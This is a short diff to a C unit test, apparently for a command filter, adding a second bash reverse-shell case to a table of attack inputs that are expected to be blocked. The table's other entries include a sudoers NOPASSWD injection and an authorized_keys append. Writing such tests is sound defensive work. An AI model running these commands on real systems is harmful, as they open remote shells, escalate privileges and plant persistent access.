@@ -129,6 +129,8 @@ static void test_attacks_blocked(void **state) {
        "shell-download-exec"},
       {"{\"command\":\"bash -i >& /dev/tcp/203.0.113.9/443 0>&1\"}",
        "shell-reverse-shell"},
+      {"{\"command\":\"bash -i >& /dev/tcp/203.0.113.66/4444 0>&1\"}",
+       "shell-reverse-shell"},
       {"{\"command\":\"echo 'u ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers\"}",
        "shell-sudoers"},
       {"{\"command\":\"echo key >> ~/.ssh/authorized_keys\"}",
